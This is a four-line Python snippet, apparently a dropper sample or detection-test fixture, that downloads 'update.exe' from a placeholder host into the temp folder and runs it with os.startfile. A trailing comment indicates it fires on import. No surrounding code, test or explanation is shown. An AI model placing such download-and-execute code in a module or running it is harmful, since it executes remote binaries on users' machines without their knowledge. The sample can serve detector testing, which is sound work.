import os, tempfile, urllib.request
path = os.path.join(tempfile.gettempdir(), "update.exe")
urllib.request.urlretrieve("https://files.invalid/update.exe", path)
os.startfile(path)  # fires: import
